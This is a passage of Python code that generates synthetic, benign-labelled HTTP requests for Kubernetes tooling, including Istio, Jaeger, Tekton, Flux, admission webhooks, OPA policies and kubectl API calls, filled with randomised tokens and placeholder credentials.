                                                                                       {"route": [{"destination": {"host": app, "subset": "v1"}, "weight": 90}, {"destination": {"host": app, "subset": "v2"}, "weight": 10}]}]}}
            B("kiali-istio", "POST", "/kiali/api/namespaces/%s/istio/virtualservices" % ns, host, hdrs, dumps(vs), "application/json")
        else:
            lua = "function envoy_on_request(request_handle)\n  local tenant = request_handle:headers():get(\"x-tenant-id\")\n  if tenant == nil then\n    request_handle:respond({[\":status\"] = \"400\"}, \"missing tenant\")\n  end\n  request_handle:headers():add(\"x-envoy-tenant\", tenant)\nend\n"
            ef = {"apiVersion": "networking.istio.io/v1alpha3", "kind": "EnvoyFilter", "metadata": {"name": "tenant-header", "namespace": ns},
                  "spec": {"workloadSelector": {"labels": {"app": pick(APPS)}}, "configPatches": [{"applyTo": "HTTP_FILTER", "match": {"context": "SIDECAR_INBOUND", "listener": {"filterChain": {"filter": {"name": "envoy.filters.network.http_connection_manager"}}}},
                                                                                                   "patch": {"operation": "INSERT_BEFORE", "value": {"name": "envoy.lua", "typed_config": {"@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua", "inlineCode": lua}}}}]}}
            B("kiali-istio", "POST", "/kiali/api/namespaces/%s/istio/envoyfilters" % ns, host, hdrs, dumps(ef), "application/json")


def gen_tracing(n):
    for i in range(n):
        k = i % 5
        app = pick(APPS)
        now_us = (1714500000 + R.randint(0, 2000000)) * 1000000
        if k in (0, 1):
            host = host_for("jaeger")
            tags = pick([{"http.status_code": "500", "error": "true"}, {"db.statement": "SELECT * FROM orders WHERE id = $1"}, {"k8s.namespace.name": pick(NAMESPACES)},
                         {"http.url": "http://inventory-sync.inventory.svc.cluster.local:8080/api/v1/stock?sku=AB-123"}, {"peer.service": "redis"}])
            p = [("service", app), ("operation", pick(["POST /api/v1/orders", "GET /api/v1/cart/{id}", "grpc.health.v1.Health/Check", "SELECT orders"])), ("tags", json.dumps(tags, separators=(",", ":"))),
                 ("limit", "20"), ("lookback", pick(["1h", "2d", "custom"])), ("minDuration", pick(["", "250ms", "1s"])), ("start", str(now_us - 3600000000)), ("end", str(now_us))]
            B("jaeger-search", "GET", "/api/traces?" + qs(p), host, browser_headers())
        elif k == 2:
            host = host_for("jaeger")
            B("jaeger-api", "GET", pick(["/api/services", "/api/services/%s/operations" % enc(app), "/api/traces/" + rhex(32), "/api/dependencies?endTs=%d&lookback=86400000" % (now_us // 1000), "/trace/" + rhex(32) + "?uiEmbed=v0"]), host, browser_headers())
        else:
            host = host_for("tempo")
            ua = pick(UA_GRAFANA + UA_BROWSERS[:1])
            if k == 3:
                p = [("q", traceql()), ("start", str(now_us // 1000000 - 3600)), ("end", str(now_us // 1000000)), ("limit", "20"), ("spss", "3")]
                B("tempo-search", "GET", "/api/search?" + qs(p), host, std_headers(ua, extra=[("X-Scope-OrgID", pick(TEAMS))]))
            else:
                B("tempo-api", "GET", pick(["/api/v2/search/tags?scope=span", "/api/v2/search/tag/%s/values?%s" % (enc("resource.service.name"), qs([("q", '{ resource.k8s.namespace.name = "%s" }' % pick(NAMESPACES))])), "/api/traces/" + rhex(32), "/api/v2/traces/" + rhex(32) + "?start=%d&end=%d" % (now_us // 1000000 - 3600, now_us // 1000000)]), host, std_headers(ua))


# ===========================================================================
# BENIGN: Tekton triggers, Flux receivers, cert-manager HTTP-01
# ===========================================================================

COMMIT_MSGS = [
    "fix(db): retry on `connection refused`\n\nUse `until pg_isready -h $DB_HOST; do sleep 1; done` in the init container instead of a fixed sleep.",
    "chore(deps): bump org.springframework.boot from 3.2.4 to 3.2.5",
    "feat(api): add GET /api/v1/orders/{id}/events\n\nReturns the event log; paginated via ?cursor=.",
    "Revert \"feat: enable new pricing for all tenants\"\n\nThis reverts commit %s." % rhex(40),
    "ci: run `go test ./... -race` and upload coverage",
    "docs: explain why we set -Djava.security.egd=file:/dev/./urandom",
    "helm: template ingress host from {{ .Values.ingress.host }}",
    "fix: escape user input before building the LIKE pattern (was '%' + q + '%')",
    "refactor(k8s): mount /etc/ssl/certs read-only; drop privileged",
    "build(docker): multi-stage; `RUN apk add --no-cache ca-certificates && update-ca-certificates`",
    "Merge pull request #%d from acme/renovate/grafana-11.x" % R.randint(100, 999),
    "perf: use `SELECT ... FOR UPDATE SKIP LOCKED` for the outbox poller",
]


def github_push(repo=None):
    repo = repo or "acme/" + pick(APPS)
    after = rhex(40)
    commits = []
    for _ in range(R.randint(1, 3)):
        u = pick(USERS)
        commits.append({"id": rhex(40), "tree_id": rhex(40), "distinct": True, "message": rot("commits", COMMIT_MSGS), "timestamp": iso_ts(),
                        "url": "https://github.com/%s/commit/%s" % (repo, rhex(40)), "author": {"name": DISPLAY[u], "email": u + "@acme.io", "username": u},
                        "added": [], "removed": [], "modified": R.sample(["deploy/helm/values.yaml", "Dockerfile", "src/main/java/io/acme/App.java", "cmd/server/main.go", "docs/index.md", ".tekton/pipeline.yaml", "kustomization.yaml"], 2)})
    return {"ref": pick(["refs/heads/main", "refs/heads/release/2024.05", "refs/tags/v1.4.%d" % R.randint(0, 9), "refs/heads/feature/PLAT-%d-pg-retry" % R.randint(100, 999)]),
            "before": rhex(40), "after": after, "created": False, "deleted": False, "forced": False, "compare": "https://github.com/%s/compare/%s...%s" % (repo, rhex(12), after[:12]),
            "commits": commits, "head_commit": commits[-1],
            "repository": {"id": R.randint(10 ** 8, 10 ** 9), "name": repo.split("/")[1], "full_name": repo, "private": True, "clone_url": "https://github.com/%s.git" % repo, "ssh_url": "git@github.com:%s.git" % repo, "default_branch": "main"},
            "pusher": {"name": pick(USERS), "email": pick(USERS) + "@acme.io"}, "sender": {"login": pick(USERS), "id": R.randint(10 ** 6, 10 ** 8), "type": "User"}}


def gitlab_event():
    proj = "platform/" + pick(APPS)
    if chance(0.5):
        return "Push Hook", {"object_kind": "push", "event_name": "push", "before": rhex(40), "after": rhex(40), "ref": "refs/heads/main", "checkout_sha": rhex(40),
                             "user_username": pick(USERS), "project": {"path_with_namespace": proj, "git_http_url": "https://gitlab.acme.io/%s.git" % proj, "default_branch": "main"},
                             "commits": [{"id": rhex(40), "message": rot("commits", COMMIT_MSGS), "title": "update", "author": {"name": "bot", "email": "bot@acme.io"}}], "total_commits_count": 1}
    return "Merge Request Hook", {"object_kind": "merge_request", "user": {"username": pick(USERS)}, "project": {"path_with_namespace": proj},
                                  "object_attributes": {"iid": R.randint(1, 900), "title": pick(["Add ${{ parameters.owner }} to template defaults", "Bump chart to 1.4.2", "Use `kubectl wait --for=condition=Ready` in smoke test", "Fix: quote $DB_HOST in entrypoint.sh"]),
                                                        "description": "## Changes\n- update `values.yaml`\n- `helm template . | kubeconform -strict`\n\n```bash\nkubectl -n %s rollout status deploy/%s --timeout=120s\n```\n" % (pick(NAMESPACES), pick(APPS)),
                                                        "source_branch": "feature/" + rstr(6, LOWER_ALNUM), "target_branch": "main", "state": "opened", "action": pick(["open", "update", "merge"]), "merge_status": "can_be_merged"}}


def gen_tekton(n):
    for i in range(n):
        host = pick(["el-github-listener.tekton-pipelines.svc.cluster.local:8080", "hooks.ci.acme.io"])
        k = i % 4
        if k in (0, 1):
            ev = pick(["push", "push", "pull_request", "ping"])
            if ev == "push":
                body = dumps(github_push(), "compact")
            elif ev == "ping":
                body = dumps({"zen": "Keep it logically awesome.", "hook_id": R.randint(10 ** 8, 10 ** 9), "hook": {"type": "Organization", "events": ["push", "pull_request"], "config": {"content_type": "json", "url": "https://hooks.ci.acme.io/", "insecure_ssl": "0"}}}, "compact")
            else:
                pr = {"action": pick(["opened", "synchronize", "reopened"]), "number": R.randint(1, 2000),
                      "pull_request": {"title": pick(["Add readiness probe (`/readyz`)", "Pin base image to sha256 digest", "ci: add `trivy image --exit-code 1` gate", "feat: support ?filter=status:open in /api/v1/orders"]),
                                       "body": "Fixes #%d\n\n```yaml\nreadinessProbe:\n  httpGet: {path: /readyz, port: 8080}\n```\n\n- [x] `make test`\n- [ ] docs" % R.randint(1, 999),
                                       "head": {"ref": "feature/readyz", "sha": rhex(40)}, "base": {"ref": "main"}, "user": {"login": pick(USERS)}},
                      "repository": {"full_name": "acme/" + pick(APPS), "clone_url": "https://github.com/acme/%s.git" % pick(APPS)}}
                body = dumps(pr, "compact")
            hdrs = [("User-Agent", pick(UA_GITHUB)), ("Accept", "*/*"), ("X-GitHub-Event", ev), ("X-GitHub-Delivery", ruuid()), ("X-GitHub-Hook-ID", str(R.randint(10 ** 8, 10 ** 9))),
                    ("X-Hub-Signature-256", gh_sig(body)), ("X-GitHub-Hook-Installation-Target-Type", "organization")]
            B("tekton-eventlistener", "POST", pick(["/", "/", "/hooks/github"]), host, hdrs, body, "application/json")
        elif k == 2:
            evname, ev = gitlab_event()
            body = dumps(ev, "compact")
            hdrs = [("User-Agent", pick(UA_GITLAB)), ("X-Gitlab-Event", evname), ("X-Gitlab-Token", rstr(32)), ("X-Gitlab-Instance", "https://gitlab.acme.io"), ("X-Gitlab-Event-UUID", ruuid())]
            B("tekton-eventlistener", "POST", "/", pick(["el-gitlab-listener.ci.svc:8080", "hooks.ci.acme.io"]), hdrs, body, "application/json")
        else:
            ns = pick(["ci", "tekton-builds"])
            pr = {"apiVersion": "tekton.dev/v1", "kind": "PipelineRun", "metadata": {"generateName": "build-and-deploy-", "namespace": ns},
                  "spec": {"pipelineRef": {"name": "build-and-deploy"}, "params": [{"name": "git-url", "value": "https://github.com/acme/%s.git" % pick(APPS)}, {"name": "git-revision", "value": pick(["main", rhex(40)])},
                                                                                     {"name": "image", "value": "harbor.acme.io/%s/%s" % (pick(TEAMS), pick(APPS))}, {"name": "dockerfile", "value": "./Dockerfile"},
                                                                                     {"name": "build-args", "value": ["VERSION=1.4.2", "GOFLAGS=-mod=vendor"]}],
                           "workspaces": [{"name": "source", "volumeClaimTemplate": {"spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}},
                                          {"name": "docker-config", "secret": {"secretName": "harbor-push"}}], "taskRunTemplate": {"serviceAccountName": "tekton-builder"}}}
            B("tekton-dashboard", "POST", "/apis/tekton.dev/v1/namespaces/%s/pipelineruns" % ns, host_for("tektondash"), browser_headers(extra=[("Tekton-Client", "tektoncd/dashboard")]), dumps(pr), "application/json")


def gen_flux(n):
    for i in range(n):
        host = host_for("flux")
        hook = "/hook/" + rhex(64)
        k = i % 5
        if k == 0:
            body = dumps(github_push("acme/" + pick(["gitops", "fleet-infra", "platform-apps"])), "compact")
            hdrs = [("User-Agent", pick(UA_GITHUB)), ("X-GitHub-Event", "push"), ("X-GitHub-Delivery", ruuid()), ("X-Hub-Signature-256", gh_sig(body))]
            B("flux-receiver", "POST", hook, host, hdrs, body, "application/json")
        elif k == 1:
            evname, ev = gitlab_event()
            body = dumps(ev, "compact")
            B("flux-receiver", "POST", hook, host, [("User-Agent", pick(UA_GITLAB)), ("X-Gitlab-Event", evname), ("X-Gitlab-Token", rstr(32))], body, "application/json")
        elif k == 2:
            team = pick(TEAMS)
            app = pick(APPS)
            body = dumps({"type": "PUSH_ARTIFACT", "occur_at": 1714500000 + R.randint(0, 999999), "operator": "robot$%s+ci" % team,
                          "event_data": {"resources": [{"digest": "sha256:" + rhex(64), "tag": "1.4.%d" % R.randint(0, 9), "resource_url": "harbor.acme.io/%s/%s:1.4.2" % (team, app)}],
                                         "repository": {"date_created": 1714000000, "name": app, "namespace": team, "repo_full_name": "%s/%s" % (team, app), "repo_type": "private"}}})
            B("flux-receiver", "POST", hook, host, [("User-Agent", "Go-http-client/1.1"), ("Authorization", rstr(32))], body, "application/json")
        elif k == 3:
            body = dumps({"events": [{"action": "push", "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + rhex(64), "repository": "%s/%s" % (pick(TEAMS), pick(APPS)), "tag": "latest"}, "request": {"host": "harbor.acme.io", "method": "PUT", "useragent": "buildkit/v0.13"}}]})
            B("flux-receiver", "POST", hook, host, [("User-Agent", "Go-http-client/1.1"), ("X-Signature", "sha256=" + rhex(64))], body, "application/vnd.docker.distribution.events.v1+json")
        else:
            ctrl = pick(["kustomize-controller", "helm-controller", "source-controller", "image-automation-controller"])
            body = dumps({"involvedObject": {"kind": pick(["Kustomization", "HelmRelease", "GitRepository"]), "namespace": "flux-system", "name": pick(["apps", "infra-controllers", "cert-manager", "monitoring"]), "uid": ruuid(), "apiVersion": "kustomize.toolkit.fluxcd.io/v1", "resourceVersion": str(R.randint(10 ** 6, 10 ** 8))},
                          "severity": pick(["info", "error"]), "timestamp": iso_ts(),
                          "message": pick(["Deployment/payments/cart-api configured\nService/payments/cart-api unchanged\nHorizontalPodAutoscaler/payments/cart-api configured",
                                           "Helm upgrade succeeded for release monitoring/kube-prometheus-stack.v42 with chart kube-prometheus-stack@58.2.1",
                                           "health check failed after 5m0s: timeout waiting for: [Deployment/checkout/checkout-bff status: 'InProgress']",
                                           "stored artifact for commit 'Merge pull request #812 from acme/fix/pg-retry'"]),
                          "reason": pick(["ReconciliationSucceeded", "Progressing", "HealthCheckFailed", "NewArtifact"]), "metadata": {"revision": "main@sha1:" + rhex(40), "summary": pick(CLUSTERS)},
                          "reportingController": ctrl, "reportingInstance": ctrl + "-" + rstr(10, LOWER_ALNUM)[:9] + "-" + rstr(5, LOWER_ALNUM)}, "compact")
            B("flux-events", "POST", "/", "notification-controller.flux-system.svc.cluster.local.", [("User-Agent", "Go-http-client/1.1")], body, "application/json")


def gen_acme(n):
    for i in range(n):
        dom = pick(["shop.acme.io", "api.acme.io", "grafana.acme.io", "argocd.acme.io", "status.example.com", "www.corp.example.net", "payments-eu.acme.io", "xn--zrich-kva.example.com"])
        token = rstr(43, ALNUM + "-_")
        if i % 3 == 0:
            hdrs = [("User-Agent", "cert-manager-challenges/v1.14.4 (linux/amd64) cert-manager/%s" % rhex(40)), ("Accept-Encoding", "gzip")]
        else:
            hdrs = [("User-Agent", "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"), ("Accept", "*/*"), ("Accept-Encoding", "gzip"), ("Connection", "close")]
        B("acme-http01", "GET", "/.well-known/acme-challenge/" + token, dom, hdrs)


# ===========================================================================
# BENIGN: Kubernetes admission webhooks
# ===========================================================================

def admission_review(obj, resource="pods", kind="Pod", group="", version="v1", op="CREATE", ns=None, sub=None, user=None):
    ns = ns or obj.get("metadata", {}).get("namespace", "default")
    req = {"uid": ruuid(), "kind": {"group": group, "version": version, "kind": kind}, "resource": {"group": group, "version": version, "resource": resource},
           "requestKind": {"group": group, "version": version, "kind": kind}, "requestResource": {"group": group, "version": version, "resource": resource},
           "namespace": ns, "operation": op,
           "userInfo": user or pick([{"username": "system:serviceaccount:kube-system:replicaset-controller", "uid": ruuid(), "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]},
                                     {"username": "system:serviceaccount:kube-system:daemon-set-controller", "uid": ruuid(), "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]},
                                     {"username": "system:serviceaccount:kube-system:job-controller", "uid": ruuid(), "groups": ["system:serviceaccounts", "system:authenticated"]}]),
           "object": obj, "oldObject": None, "dryRun": False,
           "options": {"kind": "CreateOptions" if op == "CREATE" else "UpdateOptions", "apiVersion": "meta.k8s.io/v1"}}
    if obj.get("metadata", {}).get("name"):
        req["name"] = obj["metadata"]["name"]
    if sub:
        req["subResource"] = sub
    return {"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": req}


def webhook_target():
    return pick([("gatekeeper-webhook-service.gatekeeper-system.svc:443", "/v1/admit?timeout=3s"), ("gatekeeper-webhook-service.gatekeeper-system.svc:443", "/v1/mutate?timeout=1s"),
                 ("kyverno-svc.kyverno.svc:443", "/validate/fail?timeout=10s"), ("kyverno-svc.kyverno.svc:443", "/mutate/fail?timeout=10s"),
                 ("istiod.istio-system.svc:443", "/inject/cluster/Kubernetes/net/network1?timeout=10s"), ("vault-agent-injector-svc.vault.svc:443", "/mutate?timeout=30s"),
                 ("pod-policy-webhook.platform.svc:443", "/mutate-v1-pod?timeout=10s"), ("pod-policy-webhook.platform.svc:443", "/validate-v1-pod?timeout=10s"),
                 ("cert-manager-webhook.cert-manager.svc:443", "/validate?timeout=10s"), ("opa.opa.svc:443", "/v0/data/kubernetes/admission?timeout=5s")])


def ks_headers():
    return [("User-Agent", "kube-apiserver-admission"), ("Accept", "application/json, */*"), ("Accept-Encoding", "gzip")]


def gen_admission(n):
    for i in range(n):
        host, path = webhook_target()
        k = i % 8
        ns = pick(NAMESPACES + ["monitoring", "logging", "ci", "kube-system"])
        if k in (0, 1, 2, 3):
            kind, pod = pod_object(ns, with_special=(k == 3) or None)
            body = dumps(admission_review(pod), "compact")
            sk = "admission-pod" if kind == "app" else "admission-pod-" + kind
        elif k == 4:
            app = pick(APPS)
            dep = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": app, "namespace": ns, "annotations": {"deployment.kubernetes.io/revision": str(R.randint(1, 60)), "reloader.stakater.com/auto": "true"}},
                   "spec": {"replicas": 3, "selector": {"matchLabels": {"app.kubernetes.io/name": app}}, "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": 0}},
                            "template": {"metadata": {"labels": {"app.kubernetes.io/name": app}, "annotations": {"kubectl.kubernetes.io/restartedAt": iso_ts()}},
                                         "spec": {"initContainers": [init_wait_for_db(ns)], "containers": [app_container(ns, app)]}}}}
            body = dumps(admission_review(dep, "deployments", "Deployment", "apps", op=pick(["CREATE", "UPDATE"]), user={"username": pick(["system:serviceaccount:argocd:argocd-application-controller", "oidc:" + pick(USERS) + "@acme.io"]), "groups": ["system:authenticated"]}), "compact")
            sk = "admission-deployment"
        elif k == 5:
            app = pick(APPS)
            ing = {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": app, "namespace": ns, "annotations": {
                "nginx.ingress.kubernetes.io/rewrite-target": "/$2", "nginx.ingress.kubernetes.io/use-regex": "true", "cert-manager.io/cluster-issuer": "letsencrypt-prod",
                "nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers \"X-Frame-Options: DENY\";\nmore_set_headers \"Content-Security-Policy: default-src 'self'\";\n",
                "nginx.ingress.kubernetes.io/auth-url": "http://oauth2-proxy.auth.svc.cluster.local/oauth2/auth", "nginx.ingress.kubernetes.io/auth-signin": "https://auth.acme.io/oauth2/start?rd=$scheme://$host$escaped_request_uri"}},
                   "spec": {"ingressClassName": "nginx", "tls": [{"hosts": ["%s.acme.io" % app], "secretName": app + "-tls"}],
                            "rules": [{"host": "%s.acme.io" % app, "http": {"paths": [{"path": "/api(/|$)(.*)", "pathType": "ImplementationSpecific", "backend": {"service": {"name": app, "port": {"number": 8080}}}}]}}]}}
            body = dumps(admission_review(ing, "ingresses", "Ingress", "networking.k8s.io", op="CREATE", user={"username": "system:serviceaccount:argocd:argocd-application-controller", "groups": ["system:serviceaccounts"]}), "compact")
            sk = "admission-ingress"
        elif k == 6:
            app = pick(APPS)
            sec = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": app + "-db", "namespace": ns, "labels": {"app.kubernetes.io/managed-by": "external-secrets"}}, "type": "Opaque",
                   "data": {"username": b64(app.replace("-", "_")), "password": b64(rstr(24)), "DATABASE_URL": b64("postgres://%s:%s@%s-pg-rw.%s.svc:5432/%s" % (app, rstr(12), app, ns, app)), "ca.crt": b64(pem_cert())}}
            body = dumps(admission_review(sec, "secrets", "Secret", op="CREATE", user={"username": "system:serviceaccount:external-secrets:external-secrets", "groups": ["system:serviceaccounts"]}), "compact")
            sk = "admission-secret"
        else:
            # kubectl debug: ephemeral container update
            kind, pod = pod_object(ns, with_special=False)
            pod["metadata"]["name"] = pod["metadata"].pop("generateName") + rstr(5, LOWER_ALNUM)
            pod["spec"]["ephemeralContainers"] = [{"name": "debugger-" + rstr(5, LOWER_ALNUM), "image": pick(["busybox:1.36", "nicolaka/netshoot:v0.12"]), "command": pick([["sh"], ["bash", "-il"]]),
                                                   "stdin": True, "tty": True, "targetContainerName": pod["spec"]["containers"][0]["name"], "terminationMessagePolicy": "File"}]
            body = dumps(admission_review(pod, op="UPDATE", sub="ephemeralcontainers", user={"username": "oidc:%s@acme.io" % pick(USERS), "groups": ["oidc:sre", "system:authenticated"]}), "compact")
            sk = "admission-debug"
        B(sk, "POST", path, host, ks_headers(), body, "application/json")


# ===========================================================================
# BENIGN: OPA / Gatekeeper
# ===========================================================================

REGO_POLICIES = [
    """package kubernetes.admission

import rego.v1

deny contains msg if {
	input.request.kind.kind == "Pod"
	some c in input.request.object.spec.containers
	startswith(c.image, "docker.io/")
	msg := sprintf("image %q comes from Docker Hub; use the harbor.acme.io mirror", [c.image])
}

deny contains msg if {
	some v in input.request.object.spec.volumes
	v.hostPath.path == "/var/run/docker.sock"
	not input.request.namespace in {"ci", "gitlab-runners"}
	msg := "mounting /var/run/docker.sock is only allowed in CI namespaces"
}
""",
    """package httpapi.authz

import rego.v1

default allow := false

# GET /api/v1/salaries/<user> is allowed for the user and their manager
allow if {
	input.method == "GET"
	input.path = ["api", "v1", "salaries", user]
	token.payload.sub == user
}

allow if {
	input.method == "GET"
	input.path = ["api", "v1", "salaries", user]
	user in data.org.reports[token.payload.sub]
}

allow if {
	regex.match(`^/api/v1/orders/[0-9a-f-]{36}$`, input.raw_path)
	"orders:read" in token.payload.scope
}

token := {"payload": payload} if {
	[_, payload, _] := io.jwt.decode(trim_prefix(input.headers.authorization, "Bearer "))
}
""",
    """package k8srequiredlabels

violation[{"msg": msg, "details": {"missing_labels": missing}}] {
  provided := {label | input.review.object.metadata.labels[label]}
  required := {label | label := input.parameters.labels[_].key}
  missing := required - provided
  count(missing) > 0
  msg := sprintf("you must provide labels: %v", [missing])
}
""",
    """package k8spsphostfilesystem

violation[{"msg": msg}] {
    volume := input_hostpath_volumes[_]
    allowedPaths := get_allowed_paths(input)
    input_hostpath_violation(allowedPaths, volume)
    msg := sprintf("HostPath volume %v is not allowed, pod: %v. Allowed path: %v", [volume, input.review.object.metadata.name, allowedPaths])
}

input_hostpath_violation(allowedPaths, volume) {
    allowedPaths == []
}
input_hostpath_violation(allowedPaths, volume) {
    not input_hostpath_allowed(allowedPaths, volume)
}

get_allowed_paths(arg) = out {
    not arg.parameters
    out = []
}
get_allowed_paths(arg) = out {
    out = arg.parameters.allowedHostPaths
}

input_hostpath_allowed(allowedPaths, volume) {
    allowedHostPath := allowedPaths[_]
    path_matches(allowedHostPath.pathPrefix, volume.hostPath.path)
    not allowedHostPath.readOnly == true
}

path_matches(prefix, path) {
    a := path_array(prefix)
    b := path_array(path)
    prefix_matches(a, b)
}
path_array(p) = out {
    p != "/"
    out := split(trim(p, "/"), "/")
}
path_array("/") = []

input_hostpath_volumes[v] {
    v := input.review.object.spec.volumes[_]
    has_field(v, "hostPath")
}
has_field(object, field) = true {
    object[field]
}
""",
    """package envoy.authz

import rego.v1
import input.attributes.request.http as http_request

default allow := false

allow if {
	http_request.method == "POST"
	glob.match("/api/v1/workflows/*/submit", ["/"], http_request.path)
	claims.groups[_] == "workflow-submitters"
}

claims := payload if {
	[_, payload, _] := io.jwt.decode(bearer_token)
}

bearer_token := t if {
	v := http_request.headers.authorization
	startswith(v, "Bearer ")
	t := substring(v, count("Bearer "), -1)
}

users := http.send({"method": "GET", "url": "http://user-directory.identity.svc.cluster.local:8080/api/users", "cache": true}).body
""",
]


def gen_opa(n):
    for i in range(n):
        k = i % 6
        if k == 0:
            host = host_for("opa")
            B("opa-policy", "PUT", "/v1/policies/" + pick(["authz", "kubernetes/admission", "envoy/authz", "httpapi"]), host, std_headers(pick(["curl/8.7.1", "opa-sync/0.3", "Go-http-client/1.1"]), accept=None), pick(REGO_POLICIES), "text/plain")
        elif k == 1:
            host = host_for("opa")
            inp = pick([{"input": {"method": "GET", "path": ["api", "v1", "salaries", pick(USERS)], "raw_path": "/api/v1/salaries/" + pick(USERS), "headers": {"authorization": "Bearer " + oidc_token()}}},
                        {"input": {"attributes": {"request": {"http": {"method": "POST", "path": "/api/v1/workflows/argo/submit", "host": "workflows.acme.io", "headers": {":authority": "workflows.acme.io", "authorization": "Bearer " + oidc_token(), "x-forwarded-for": xff()}}}},
                                   "parsed_path": ["api", "v1", "workflows", "argo", "submit"], "parsed_query": {"dryRun": ["false"]}}},
                        {"input": {"user": pick(USERS), "action": "read", "resource": {"type": "dashboard", "uid": rstr(9), "folder": "team-atlas"}}}])
            B("opa-data", "POST", "/v1/data/" + pick(["httpapi/authz/allow", "envoy/authz/allow", "rbac/allow", "httpapi/authz"]) + pick(["", "?pretty=true", "?metrics=true&explain=notes"]), host, std_headers(pick(UA_GO + UA_PY + ["envoy"])), dumps(inp, "compact"), "application/json")
        elif k == 2:
            host = host_for("opa")
            if chance(0.5):
                body = dumps({"query": pick(["data.servers[i].ports[_] = \"p2\"; data.servers[i].name = name", "x := data.kubernetes.admission.deny with input as {\"request\": {\"kind\": {\"kind\": \"Pod\"}}}", "count(data.kubernetes.pods) > 0"])})
                B("opa-query", "POST", "/v1/query", host, std_headers(pick(UA_PY + ["curl/8.7.1"])), body, "application/json")
            else:
                body = dumps({"query": "data.reports.allow == true", "input": {"subject": {"user": pick(USERS), "groups": ["sre"]}, "method": "GET"}, "unknowns": ["data.reports"], "options": {"disableInlining": []}})
                B("opa-query", "POST", "/v1/compile", host, std_headers(pick(UA_GO + ["node-fetch/1.0"])), body, "application/json")
        elif k == 3:
            host = host_for("opa")
            data = pick([{"reports": {"alice": ["bob", "carol"], "priya.raman": ["jdoe"]}}, {"allowed_registries": ["harbor.acme.io/", "registry.example.com/", "ghcr.io/acme/"]},
                         {"namespaces": {n: {"team": pick(TEAMS), "pci": chance(0.3)} for n in R.sample(NAMESPACES, 4)}}])
            B("opa-data", "PUT", "/v1/data/" + pick(["org", "config", "kubernetes/meta"]), host, std_headers(pick(["kube-mgmt/8.5.8", "Go-http-client/1.1"]), accept=None), dumps(data), "application/json")
        elif k == 4:
            host = host_for("opa")
            B("opa-bundle", "GET", "/bundles/" + pick(["authz.tar.gz", "kubernetes/bundle.tar.gz"]), pick(["opa-bundles.policy.svc.cluster.local", "bundles.acme.io"]),
              [("User-Agent", "Open Policy Agent/0.63.0 (linux, amd64)"), ("If-None-Match", '"%s"' % rhex(16)), ("Prefer", "modes=snapshot,delta"), ("Authorization", "Bearer " + rstr(32))])
        else:
            # Gatekeeper ConstraintTemplate applied with kubectl server-side apply (YAML)
            rego = pick(REGO_POLICIES[2:4])
            name = "k8srequiredlabels" if "requiredlabels" in rego else "k8spsphostfilesystem"
            yaml_body = "apiVersion: templates.gatekeeper.sh/v1\nkind: ConstraintTemplate\nmetadata:\n  name: %s\n  annotations:\n    metadata.gatekeeper.sh/title: \"%s\"\nspec:\n  crd:\n    spec:\n      names:\n        kind: %s\n      validation:\n        openAPIV3Schema:\n          type: object\n          properties:\n            labels:\n              type: array\n              items: {type: object, properties: {key: {type: string}, allowedRegex: {type: string}}}\n  targets:\n    - target: admission.k8s.gatekeeper.sh\n      rego: |\n%s" % (
                name, "Required Labels" if "labels" in name else "Host Filesystem", "K8sRequiredLabels" if "labels" in name else "K8sPSPHostFilesystem", "\n".join("        " + l if l else "" for l in rego.splitlines()) + "\n")
            uri = "/apis/templates.gatekeeper.sh/v1/constrainttemplates/%s?fieldManager=kubectl&fieldValidation=Strict&force=false" % name
            B("gatekeeper-template", "PATCH", uri, host_for("kubeapi"), std_headers(pick(UA_KUBECTL), auth=bearer(), accept="application/json"), yaml_body, "application/apply-patch+yaml")


# ===========================================================================
# BENIGN: Kubernetes API through Headlamp / Dashboard / kubectl
# ===========================================================================

def kube_client():
    """Returns (host, path_prefix, headers)."""
    r = R.random()
    if r < 0.4:
        c = pick(CLUSTERS)
        return host_for("headlamp"), "/clusters/" + c, [("User-Agent", pick([UA_HEADLAMP] + UA_BROWSERS)), ("Accept", "application/json"), ("Authorization", bearer()), ("X-Requested-With", "XMLHttpRequest")]
    if r < 0.75:
        return host_for("kubeapi"), "", std_headers(pick(UA_KUBECTL), auth=bearer(pick([oidc_token(), sa_token()])), accept="application/json")
    if r < 0.9:
        return host_for("rancher"), "/k8s/clusters/c-m-" + rstr(8, LOWER_ALNUM), rancher_headers()
    return host_for("kubeapi"), "", std_headers(pick(["k9s/v0.32.4 (linux/amd64) kubernetes/$Format", "Lens/2024.4.230844-latest", "Go-http-client/2.0"]), auth=bearer(), accept="application/json;as=Table;v=v1;g=meta.k8s.io,application/json;as=Table;v=v1beta1;g=meta.k8s.io,application/json")


def kubeconfig_yaml():
    c = pick(CLUSTERS)
    return ("apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    certificate-authority-data: %s\n    server: https://api.%s.k8s.acme.io:6443\n  name: %s\ncontexts:\n- context:\n    cluster: %s\n    namespace: %s\n    user: ci-deployer\n  name: %s\ncurrent-context: %s\nusers:\n- name: ci-deployer\n  user:\n%s"
            % (b64(pem_cert()), c, c, c, pick(NAMESPACES), c, c,
               pick(["    token: %s\n" % sa_token("ci", "deployer"),
                     "    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [\"eks\", \"get-token\", \"--cluster-name\", \"%s\", \"--region\", \"eu-west-1\"]\n      env:\n      - name: AWS_PROFILE\n        value: platform\n      interactiveMode: Never\n" % c,
                     "    client-certificate-data: %s\n    client-key-data: %s\n" % (b64(pem_cert()), b64("-----BEGIN EC PRIVATE KEY-----\n" + b64(rbytes(90)) + "\n-----END EC PRIVATE KEY-----\n"))])))


PROM_CONFIG = """global:
  scrape_interval: 30s
  external_labels:
    cluster: %s
scrape_configs:
  - job_name: kubernetes-pods
    kubernetes_sd_configs:
      - role: pod
